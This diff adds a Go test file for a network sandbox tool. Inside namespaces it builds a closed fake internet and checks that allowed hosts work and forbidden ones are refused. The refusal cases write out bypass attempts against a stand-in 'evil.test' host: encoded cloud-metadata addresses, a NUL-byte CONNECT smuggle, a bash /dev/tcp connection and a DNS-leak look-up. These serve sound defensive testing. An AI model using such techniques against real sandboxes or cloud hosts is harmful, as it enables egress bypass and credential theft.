@@ -1,0 +1,490 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/pem"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"slices"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// The tests below have an internet of their own: a network namespace for the host
+// and one for the rest of the world, joined by a pair of virtual interfaces. No
+// packet leaves them. The world has servers under public addresses, a name
+// server, and canaries that write down who came.
+const (
+	internetVar = "SBX_TEST_INTERNET" // the mount namespace that the process must have left
+
+	hostAddr  = "10.55.0.1"
+	worldAddr = "10.55.0.2"
+	webAddr   = "93.184.216.34"
+	evilAddr  = "93.184.216.35"
+	nameAddr  = "93.184.216.53"
+	metaAddr  = "169.254.169.254"
+	innerAddr = "10.9.0.5"
+)
+
+// names is the phone book of the world.
+func names() map[string]string {
+	book := map[string]string{"evil.test": evilAddr, "x.evil.test": evilAddr, "inside.test": innerAddr, "meta.test": metaAddr, "self.test": "127.0.0.1", "host.test": hostAddr}
+	for _, name := range []string{"example.com", "www.test", "a.wild.test", "wild.test", "git.test", "npm.test", "pypi.test", "goproxy.test"} {
+		book[name] = webAddr
+	}
+	return book
+}
+
+// TestInternet runs real clients in the sandbox against servers in a world of its
+// own, as root and as an ordinary user.
+func TestInternet(t *testing.T) {
+	if left := os.Getenv(internetVar); left != "" {
+		inside(t, left)
+		return
+	}
+	if os.Geteuid() != 0 {
+		t.Skip("network namespaces with addresses of our choice need root; the scripts test the proxy as an ordinary user")
+	}
+	mine, err := os.Readlink("/proc/self/ns/mnt")
+	if err != nil {
+		t.Fatal(err)
+	}
+	self, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	args := []string{"-test.run=^TestInternet$", "-test.timeout=10m"}
+	if testing.Verbose() {
+		args = append(args, "-test.v")
+	}
+	cmd := exec.Command(self, args...)
+	cmd.Env = append(os.Environ(), internetVar+"="+mine)
+	cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS | syscall.CLONE_NEWNET, Pdeathsig: syscall.SIGKILL}
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("%v\n%s", err, out)
+	}
+	t.Logf("%s", out)
+}
+
+// world is the other side.
+type world struct {
+	t       *testing.T
+	do      chan func() // run on the thread that is in its namespace
+	mu      sync.Mutex
+	visits  []string // of canaries
+	lookups []string
+	ca      string // file with the certificate of the TLS server
+	git     string // bare repository
+}
+
+// inside is the test in the new namespaces.
+func inside(t *testing.T, left string) {
+	if now, err := os.Readlink("/proc/self/ns/mnt"); err != nil || now == left {
+		t.Fatalf("no mount namespace of our own: %s, %v", now, err)
+	}
+	dir, err := os.MkdirTemp("/var/lib", "sbx-internet-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+	if err := os.Chmod(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	w := newWorld(t, dir)
+	for file, text := range map[string]string{"/etc/resolv.conf": "nameserver " + nameAddr + "\n", "/etc/hosts": "127.0.0.1 localhost\n"} {
+		own := filepath.Join(dir, filepath.Base(file))
+		if err := os.WriteFile(own, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if err := unix.Mount(own, file, "", unix.MS_BIND, ""); err != nil {
+			t.Fatal(err)
+		}
+	}
+	w.serve(dir)
+	for _, who := range []struct {
+		name string
+		id   uint32
+	}{{"root", 0}, {"user", 65533}} {
+		h := &host{t: t, world: w, dir: filepath.Join(dir, who.name), id: who.id}
+		h.prepare()
+		t.Run(who.name, func(t *testing.T) { h.t = t; h.clients() })
+		t.Run(who.name+"/refused", func(t *testing.T) { h.t = t; h.refusals() })
+	}
+}
+
+func mustRun(t *testing.T, argv ...string) {
+	t.Helper()
+	if out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput(); err != nil {
+		t.Fatalf("%q: %v\n%s", argv, err, out)
+	}
+}
+
+func newWorld(t *testing.T, dir string) *world {
+	w := &world{t: t, do: make(chan func())}
+	began := make(chan int)
+	go func() {
+		runtime.LockOSThread() // never unlocked: the thread ends with its namespace
+		if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
+			began <- 0
+			return
+		}
+		began <- unix.Gettid()
+		for f := range w.do {
+			f()
+		}
+	}()
+	tid := <-began
+	if tid == 0 {
+		t.Fatal("no network namespace")
+	}
+	t.Cleanup(func() { close(w.do) })
+	mustRun(t, "ip", "link", "set", "lo", "up")
+	mustRun(t, "ip", "link", "add", "home", "type", "veth", "peer", "name", "away")
+	mustRun(t, "ip", "link", "set", "away", "netns", fmt.Sprint(tid))
+	mustRun(t, "ip", "address", "add", hostAddr+"/24", "dev", "home")
+	mustRun(t, "ip", "link", "set", "home", "up")
+	mustRun(t, "ip", "route", "add", "default", "via", worldAddr)
+	w.in(func() {
+		mustRun(t, "ip", "link", "set", "lo", "up")
+		mustRun(t, "ip", "address", "add", worldAddr+"/24", "dev", "away")
+		mustRun(t, "ip", "link", "set", "away", "up")
+		for _, a := range []string{webAddr, evilAddr, nameAddr, metaAddr, innerAddr} {
+			mustRun(t, "ip", "address", "add", a+"/32", "dev", "lo")
+		}
+	})
+	return w
+}
+
+// in runs something in the namespace of the world and waits.
+func (w *world) in(f func()) {
+	done := make(chan struct{})
+	w.do <- func() { defer close(done); f() }
+	<-done
+}
+
+func (w *world) listen(address string) net.Listener {
+	var l net.Listener
+	var err error
+	w.in(func() { l, err = net.Listen("tcp", address) })
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	w.t.Cleanup(func() { l.Close() })
+	return l
+}
+
+// canary answers every connection and writes it down.
+func (w *world) canary(name string, l net.Listener) {
+	s := &http.Server{
+		Handler: http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) { fmt.Fprintln(rw, "canary "+name) }),
+		ConnState: func(_ net.Conn, state http.ConnState) {
+			if state == http.StateNew {
+				w.mu.Lock()
+				w.visits = append(w.visits, name)
+				w.mu.Unlock()
+			}
+		},
+	}
+	go func() { _ = s.Serve(l) }()
+}
+
+// taken gives what the canaries and the name server have seen, and forgets it.
+func (w *world) taken() (visits, lookups []string) {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	visits, lookups = w.visits, w.lookups
+	w.visits, w.lookups = nil, nil
+	return visits, lookups
+}
+
+func (w *world) serve(dir string) {
+	w.git = filepath.Join(dir, "git")
+	site := w.site(dir)
+	go func() { _ = http.Serve(w.listen(webAddr+":80"), site) }()
+	tls := httptest.NewUnstartedServer(site)
+	tls.Listener.Close()
+	tls.Listener = w.listen(webAddr + ":443")
+	tls.StartTLS()
+	w.t.Cleanup(tls.Close)
+	w.ca = filepath.Join(dir, "ca.pem")
+	text := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: tls.Certificate().Raw})
+	if err := os.WriteFile(w.ca, text, 0o644); err != nil {
+		w.t.Fatal(err)
+	}
+	w.canary("web:8443", w.listen(webAddr+":8443"))
+	w.canary("evil", w.listen(evilAddr+":80"))
+	w.canary("evil:443", w.listen(evilAddr+":443"))
+	w.canary("meta", w.listen(metaAddr+":80"))
+	w.canary("inner", w.listen(innerAddr+":80"))
+	for _, address := range []string{"127.0.0.1:80", hostAddr + ":80", "[::1]:80"} { // of the host itself
+		l, err := net.Listen("tcp", address)
+		if err != nil {
+			w.t.Fatal(err)
+		}
+		w.t.Cleanup(func() { l.Close() })
+		w.canary("host", l)
+	}
+	w.nameServer()
+}
+
+// nameServer answers questions for addresses (RFC 1035).
+func (w *world) nameServer() {
+	var conn net.PacketConn
+	var err error
+	w.in(func() { conn, err = net.ListenPacket("udp4", nameAddr+":53") })
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	w.t.Cleanup(func() { conn.Close() })
+	book := names()
+	go func() {
+		buf := make([]byte, 512)
+		for {
+			n, from, err := conn.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			name, end := question(buf[:n])
+			w.mu.Lock()
+			w.lookups = append(w.lookups, name)
+			w.mu.Unlock()
+			if end == 0 {
+				continue
+			}
+			reply := slices.Clone(buf[:end])
+			reply[2], reply[3] = 0x84, 0 // an answer, authoritative
+			copy(reply[6:12], make([]byte, 6))
+			a := net.ParseIP(book[strings.ToLower(name)]).To4()
+			switch {
+			case a == nil:
+				reply[3] = 3 // no such name
+			case reply[end-3] == 1: // type A
+				reply[7] = 1
+				reply = append(reply, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4)
+				reply = append(reply, a...)
+			}
+			_, _ = conn.WriteTo(reply, from)
+		}
+	}()
+}
+
+// question reads the name of the first question and where it ends.
+func question(b []byte) (string, int) {
+	var labels []string
+	at := 12
+	for at < len(b) && b[at] != 0 {
+		n := int(b[at])
+		if at+1+n >= len(b) {
+			return "", 0
+		}
+		labels = append(labels, string(b[at+1:at+1+n]))
+		at += 1 + n
+	}
+	if at+5 > len(b) {
+		return "", 0
+	}
+	return strings.Join(labels, "."), at + 5
+}
+
+// host is where sbx is run, as one user.
+type host struct {
+	t     *testing.T
+	world *world
+	dir   string
+	id    uint32
+}
+
+func (h *host) ws() string { return filepath.Join(h.dir, "ws") }
+
+func (h *host) prepare() {
+	for _, dir := range []string{h.dir, h.ws(), filepath.Join(h.dir, "home")} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			h.t.Fatal(err)
+		}
+		if err := os.Chown(dir, int(h.id), int(h.id)); err != nil {
+			h.t.Fatal(err)
+		}
+	}
+}
+
+// command is what the user runs, outside the sandbox.
+func (h *host) command(env []string, argv ...string) (string, error) {
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
+	cmd.Dir = h.ws()
+	cmd.Env = append([]string{
+		"PATH=" + os.Getenv(binVar) + ":/usr/local/go/bin:/usr/local/bin:/usr/bin:/bin", "HOME=" + filepath.Join(h.dir, "home"), "LANG=C.UTF-8", "CA=" + h.world.ca,
+	}, env...)
+	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: h.id, Gid: h.id}, Pdeathsig: syscall.SIGKILL}
+	var out bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &out
+	err := cmd.Run()
+	return out.String(), err
+}
+
+// confined runs a text of bash under a list of rules.
+func (h *host) confined(network, text string) (string, error) {
+	return h.command(nil, filepath.Join(os.Getenv(binVar), "sbx"), "exec", "--network", network, "--", "bash", "-c", text)
+}
+
+// clients reach what is listed.
+func (h *host) clients() {
+	for _, c := range []struct{ name, network, text, want string }{
+		{"curl", "allow:www.test", `curl -sS http://www.test/`, "hello"},
+		{"curl post", "allow:www.test", `curl -sS -d payload http://www.test/echo`, "payload"},
+		{"curl tls", "allow:example.com", `curl -sS --cacert $CA https://example.com/`, "hello"},
+		{"curl socks name", "allow:www.test", `curl -sS -x socks5h://127.0.0.1:61280 http://www.test/`, "hello"},
+		{"curl socks address", "allow:93.184.216.34", `curl -sS -x socks5://127.0.0.1:61280 http://93.184.216.34/`, "hello"},
+		{"curl wildcard", "allow:*.wild.test", `curl -sS http://a.wild.test/`, "hello"},
+		{"curl everything public", "allow:*", `curl -sS http://www.test/ && curl -sS --cacert $CA https://example.com/`, "hello"},
+		{"curl listed private", "allow:inside.test,10.9.0.0/16", `curl -sS http://inside.test/`, "canary inner"},
+		{"curl listed host", "allow:" + hostAddr, `curl -sS http://` + hostAddr + `/`, "canary host"},
+		{"curl upper case", "allow:WWW.test.", `curl -sS http://wWw.TEST./`, "hello"},
+		{"wget", "allow:www.test", `wget -qO- http://www.test/`, "hello"},
+		{"wget tls", "allow:example.com", `wget -qO- --ca-certificate=$CA https://example.com/`, "hello"},
+		{"python", "allow:www.test", `python3 -c 'import urllib.request; print(urllib.request.urlopen("http://www.test/").read().decode())'`, "hello"},
+		{"python tls", "allow:example.com", `python3 -c 'import ssl, os, urllib.request as u; print(u.urlopen("https://example.com/", context=ssl.create_default_context(cafile=os.environ["CA"])).read().decode())'`, "hello"},
+		{"git", "allow:git.test", `rm -rf clone && git clone -q http://git.test/repo.git clone && cat clone/README && cd clone && git fetch -q && git ls-remote`, "from git"},
+		{"npm", "allow:npm.test", `rm -rf node_modules package*.json && npm install --no-audit --no-fund --registry http://npm.test/ greet@1.0.0 && node -e 'console.log(require("greet"))'`, "from npm"},
+		{"pip", "allow:pypi.test", `python3 -m pip install -q --no-deps --disable-pip-version-check --target py --index-url http://pypi.test/simple --trusted-host pypi.test greet==1.0 && PYTHONPATH=py python3 -c 'import greet; print(greet.text)'`, "from pypi"},
+		{"go", "allow:goproxy.test", `mkdir -p gomod && cd gomod && printf 'module m\ngo 1.21\nrequire example.test/greet v1.0.0\n' >go.mod && GOFLAGS=-mod=mod GONOSUMDB='*' GONOSUMCHECK=1 GOSUMDB=off GOPROXY=http://goproxy.test go mod download -x example.test/greet@v1.0.0 && find $GOMODCACHE -name greet.go | xargs cat`, "from goproxy"},
+		{"java", "allow:www.test", `cat >Fetch.java <<'END'
+import java.net.*;
+class Fetch { public static void main(String[] a) throws Exception {
+  System.out.println(new String(new URL("http://www.test/").openStream().readAllBytes())); } }
+END
+java -XX:TieredStopAtLevel=1 Fetch.java`, "hello"},
+		{"a server of its own", "allow:", `python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & for i in $(seq 50); do curl -sS http://localhost:8000/ && break; sleep 0.1; done`, "Directory listing"},
+	} {
+		h.world.taken()
+		out, err := h.confined(c.network, c.text)
+		if err != nil || !strings.Contains(out, c.want) || strings.Contains(out, "sbx: refused") {
+			h.t.Errorf("%s: %v, want %q\n%s", c.name, err, c.want, out)
+		}
+		visits, lookups := h.world.taken()
+		for _, v := range visits {
+			if !strings.HasSuffix(c.want, v) {
+				h.t.Errorf("%s: canary %s was visited", c.name, v)
+			}
+		}
+		for _, name := range lookups {
+			if _, known := names()[strings.ToLower(name)]; !known {
+				h.t.Errorf("%s: %q was looked up", c.name, name)
+			}
+		}
+	}
+}
+
+// refusals do not reach what is not listed. The control runs the same outside.
+func (h *host) refusals() {
+	const all = "allow:*:*"
+	for _, c := range []struct{ name, network, text, rule string }{
+		{"curl", "allow:www.test", `curl -sS http://evil.test/`, "host not listed"},
+		{"tunnel", "allow:www.test", `curl -sS -p http://evil.test/`, "host not listed"},
+		{"address of a listed host", "allow:www.test", `curl -sS http://` + evilAddr + `/`, "host not listed"},
+		{"wildcard", "allow:*.evil.test", `curl -sS http://evil.test/`, "host not listed"},
+		{"name that ends alike", "allow:vil.test", `curl -sS http://evil.test/`, "host not listed"},
+		{"host in front", "allow:x.evil.test.www.test,www.test", `curl -sS http://x.evil.test/`, "host not listed"},
+		{"empty list", "allow:", `curl -sS http://evil.test/`, "host not listed"},
+		{"another port", "allow:www.test", `curl -sS http://www.test:8443/`, "port not listed"},
+		{"another port, tunnel", "allow:www.test", `curl -sS -p http://www.test:8443/`, "port not listed"},
+		{"redirect", "allow:www.test", `curl -sSL http://www.test/to-evil`, "host not listed"},
+		{"redirect to metadata", "allow:*", `curl -sSL http://www.test/to-meta`, "metadata address"},
+		{"metadata", all, `curl -sS http://169.254.169.254/`, "metadata address"},
+		{"metadata, decimal", all, `curl -sS --proxy-header 'X: 1' -x http://127.0.0.1:61280 http://2852039166/`, "metadata address"},
+		{"metadata, octal, raw", all, `printf 'GET http://0251.0376.0251.0376/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' | python3 talk.py`, "metadata address"},
+		{"metadata in IPv6", all, `printf 'CONNECT [::ffff:a9fe:a9fe]:80 HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n' | python3 talk.py`, "metadata address"},
+		{"name of metadata", all, `curl -sS http://meta.test/`, "metadata address"},
+		{"name inside", all, `curl -sS http://inside.test/`, "private address"},
+		{"address inside", all, `curl -sS http://10.9.0.5/`, "private address"},
+		{"loopback of the host", all, `curl --noproxy "" -sS http://127.0.0.1/`, "loopback address"},
+		{"loopback of the host, IPv6", all, `curl --noproxy "" -sS 'http://[::1]/'`, "loopback address"},
+		{"name of the loopback", all, `curl -sS http://self.test/`, "loopback address"},
+		{"0.0.0.0", all, `curl --noproxy "" -sS http://0.0.0.0/`, "loopback address"},
+		{"address of the host", all, `curl -sS http://` + hostAddr + `/`, "this host"},
+		{"name of the host", all, `curl -sS http://host.test/`, "this host"},
+		{"socks", "allow:www.test", `curl -sS -x socks5h://127.0.0.1:61280 http://evil.test/`, "host not listed"},
+		{"socks, address", "allow:www.test", `curl -sS -x socks5://127.0.0.1:61280 http://` + evilAddr + `/`, "host not listed"},
+		{"wget", "allow:www.test", `wget -qO- -t1 http://evil.test/`, "host not listed"},
+		{"git", "allow:git.test", `git ls-remote http://evil.test/repo.git`, "host not listed"},
+		{"python", "allow:www.test", `python3 -c 'import urllib.request as u; u.urlopen("http://evil.test/")'`, "host not listed"},
+		{"pip", "allow:pypi.test", `python3 -m pip download -q --retries 0 --disable-pip-version-check --index-url http://evil.test/simple --trusted-host evil.test greet`, "host not listed"},
+		{"npm", "allow:npm.test", `npm view --fetch-retries 0 --registry http://evil.test/ greet`, "host not listed"},
+		{"go", "allow:goproxy.test", `mkdir -p gm && cd gm && GOSUMDB=off GOPROXY=http://evil.test go mod download example.test/other@v1.0.0`, "host not listed"},
+		{"host header", "allow:www.test", `curl -sS -H 'Host: www.test' http://evil.test/`, "host not listed"},
+		{"NUL", "allow:www.test", `printf 'CONNECT www.test\0.evil.test:80 HTTP/1.1\r\n\r\n' | python3 talk.py; false`, ""},
+		{"without the proxy", all, `curl -sS --max-time 5 --noproxy "*" http://evil.test/`, ""},
+		{"without the proxy, address", all, `curl -sS --max-time 5 --noproxy "*" http://` + evilAddr + `/`, ""},
+		{"without the variables", all, `env -i PATH=$PATH curl -sS --max-time 5 http://` + evilAddr + `/`, ""},
+		{"raw socket", all, `python3 -c 'import socket; socket.create_connection(("` + evilAddr + `", 80), 5)'`, ""},
+		{"bash", all, `exec 3<>/dev/tcp/` + evilAddr + `/80`, ""},
+		{"name server", all, `python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("` + nameAddr + `", 53))'`, ""},
+		{"look-up", all, `getent hosts secret-in-a-name.evil.test`, ""},
+	} {
+		if err := os.WriteFile(filepath.Join(h.ws(), "talk.py"), []byte(talk), 0o644); err != nil {
+			h.t.Fatal(err)
+		}
+		h.world.taken()
+		out, err := h.confined(c.network, c.text)
+		visits, lookups := h.world.taken()
+		listed := slices.DeleteFunc(lookups, func(name string) bool { // only names that a rule allows
+			_, known := names()[strings.ToLower(name)]
+			return known && (c.network == all || c.network == "allow:*" || name == "www.test")
+		})
+		if len(visits) > 0 || len(listed) > 0 {
+			h.t.Errorf("%s: visited %v, looked up %v\n%s", c.name, visits, listed, out)
+		}
+		if c.rule == "" && err == nil {
+			h.t.Errorf("%s: it worked\n%s", c.name, out)
+		}
+		if c.rule != "" && (!strings.Contains(out, "sbx: refused: ") || !strings.Contains(out, c.rule) || !strings.Contains(out, "would allow it")) {
+			h.t.Errorf("%s: no refusal by %q\n%s", c.name, c.rule, out)
+		}
+	}
+	// The control: the canaries are there.
+	for _, text := range []string{
+		`curl -sS http://evil.test/`, `curl -sS http://169.254.169.254/`, `curl -sS http://inside.test/`, `curl -sS http://` + hostAddr + `/`, `curl -sS http://127.0.0.1/`,
+		`curl -sS 'http://[::1]/'`, `curl -sS http://www.test:8443/`, `exec 3<>/dev/tcp/` + evilAddr + `/443`,
+	} {
+		h.world.taken()
+		out, err := h.command(nil, "bash", "-c", text)
+		time.Sleep(20 * time.Millisecond)
+		if visits, _ := h.world.taken(); err != nil || len(visits) == 0 {
+			h.t.Errorf("control %s: %v, visited %v\n%s", text, err, visits, out)
+		}
+	}
+	h.world.taken()
+	if _, err := h.command(nil, "getent", "hosts", "secret-in-a-name.evil.test"); err == nil {
+		h.t.Error("control: a name that is not there was found")
+	}
+	if _, lookups := h.world.taken(); !slices.Contains(lookups, "secret-in-a-name.evil.test") {
+		h.t.Errorf("control: looked up %v", lookups)
+	}
+}
+
+// talk sends standard input to the proxy and prints the answer.
+const talk = `
+import socket, sys
+s = socket.create_connection(("127.0.0.1", 61280), 5)
+s.sendall(sys.stdin.buffer.read())
+while True:
+    b = s.recv(65536)
+    if not b: break
+    sys.stdout.buffer.write(b)
+    if b"\r\n\r\n" in b: break
+`
+
